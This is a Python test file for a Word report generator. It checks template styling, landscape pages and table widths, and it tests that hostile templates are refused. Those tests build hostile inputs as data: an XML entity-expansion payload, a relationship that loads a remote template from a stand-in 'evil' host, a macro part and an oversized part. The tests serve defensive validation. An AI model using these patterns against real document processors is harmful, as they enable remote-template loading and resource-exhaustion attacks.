"""Editions of a network's report in Word: templates, pages on their side, and templates that are refused."""

from __future__ import annotations

import io
import sys
import zipfile
from datetime import datetime
from pathlib import Path

import docx
import pytest

sys.path.insert(0, str(Path(__file__).parent))
from edition_towns import towns
from monitored import founding

from diffuscope import write_edition
from diffuscope.errors import PlanError
from diffuscope.report.edition.build import build
from diffuscope.report.edition.contents import Edition, Part, Row, Table
from diffuscope.report.edition.word import word
from diffuscope.report.edition.write import content

# --- templates


def template(path: Path) -> Path:
    paper = docx.Document()
    paper.sections[0].header.paragraphs[0].text = "THE NETWORK"
    paper.styles["Heading 1"].font.name = "Georgia"
    paper.add_paragraph("Old text of the template")
    paper.save(path)
    return path


def test_a_template_gives_styles_and_header_and_not_its_text(tmp_path):
    made = write_edition(towns(), tmp_path / "out.docx", template=template(tmp_path / "t.docx"))
    paper = docx.Document(made)
    assert paper.sections[0].header.paragraphs[0].text == "THE NETWORK"
    assert paper.styles["Heading 1"].font.name == "Georgia"
    written = [paragraph.text for paragraph in paper.paragraphs]
    assert written[:2] == ["Towns", "Public edition · 2025 (30 September 2025)"]
    assert "Old text of the template" not in written
    assert [table for table in paper.tables if table.cell(0, 0).text == "Negara"]


def test_wide_tables_stand_on_pages_on_their_side_below_the_template_s_header(tmp_path):
    paper_of = template(tmp_path / "t.docx")
    letterhead = docx.Document(paper_of)
    letterhead.sections[0].different_first_page_header_footer = True
    letterhead.sections[0].first_page_header.paragraphs[0].text = "LETTERHEAD"
    letterhead.save(paper_of)
    made = write_edition(founding(), tmp_path / "out.docx", edition="working", template=paper_of)
    paper = docx.Document(made)
    upright, *_, last = paper.sections
    assert len(paper.sections) > 1
    assert upright.page_width < upright.page_height
    assert last.page_width > last.page_height
    assert last.header.paragraphs[0].text == "THE NETWORK"
    assert upright.different_first_page_header_footer
    assert not last.different_first_page_header_footer
    for at, section in enumerate(paper.sections):
        room = section.page_width - section.left_margin - section.right_margin
        for one in within(section):
            assert sum(column.width for column in one.columns) <= room * 1.001, at


WIDE = Table(
    "t", "Wide", tuple(f"column {at}" for at in range(12)), (Row(tuple("word " * 6 for _ in range(12))),)
)


@pytest.mark.parametrize(("says", "turned"), [(("What it says.",), [False, True]), ((), [True])])
def test_a_wide_table_behind_a_letterhead_leaves_no_page_with_a_title_alone(tmp_path, says, turned):
    parts = (Part("a", "Projects", says, (WIDE,)),)
    edition = Edition("Towns", "2025", "Summary", "en", parts, "foot", datetime(2025, 1, 1))
    paper = docx.Document(io.BytesIO(word(edition, template(tmp_path / "t.docx").read_bytes())))
    assert [section.page_width > section.page_height for section in paper.sections] == turned
    first = [one.text for one in paper.sections[0].iter_inner_content() if hasattr(one, "text")]
    assert first[:4] == ["Towns", "2025", "Projects", *(says or ("Wide",))]
    assert len(within(paper.sections[-1])) == 1


def within(section):
    return [one for one in section.iter_inner_content() if hasattr(one, "rows")]


def test_the_public_document_stands_upright_and_keeps_its_rows_whole():
    paper = docx.Document(io.BytesIO(content(build(founding()), ".docx")))
    assert [section.page_width < section.page_height for section in paper.sections] == [True]
    rows = [row for one in paper.tables for row in one.rows]
    assert all(row._tr.trPr.xpath("w:cantSplit") for row in rows)
    heads = [row for row in rows if row._tr.trPr.xpath("w:tblHeader")]
    assert len(heads) == len(paper.tables)


def changed(path: Path, made: Path, **parts: bytes | None) -> Path:
    """A template with parts replaced or added; slashes are written as two underscores."""
    named = {name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()}
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in named:
                new.writestr(name, old.read(name))
        for name, data in named.items():
            new.writestr(name, data)
    return made


BOMB = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'


LOADS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://example.org/evil.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("parts", "why"),
    [
        ({"word__vbaProject_dot_bin": b"x"}, "macros"),
        ({"word__styles_dot_xml": BOMB}, "entities"),
        ({"word___rels__settings_dot_xml_dot_rels": LOADS}, "elsewhere"),
        ({"word__big_dot_xml": b" " * 70_000_000}, "larger than 60 MB"),
        ({"word__document_dot_xml": b"<broken"}, "cannot be opened"),
    ],
)
def test_hostile_templates_are_refused_and_nothing_is_written(tmp_path, parts, why):
    bad = changed(template(tmp_path / "t.docx"), tmp_path / "bad.docx", **parts)
    with pytest.raises(PlanError, match=why):
        write_edition(towns(), tmp_path / "out.docx", template=bad)
    assert {path.name for path in tmp_path.iterdir()} == {"t.docx", "bad.docx"}


def test_files_that_are_no_template_are_refused(tmp_path):
    (tmp_path / "t.docx").write_bytes(b"no zip")
    for name, why in (("t.docx", "not a Word document"), ("none.docx", "no template")):
        with pytest.raises(PlanError, match=why):
            write_edition(towns(), tmp_path / "out.docx", template=tmp_path / name)
    with pytest.raises(PlanError, match="is for Word"):
        write_edition(towns(), tmp_path / "out.html", template=tmp_path / "t.docx")
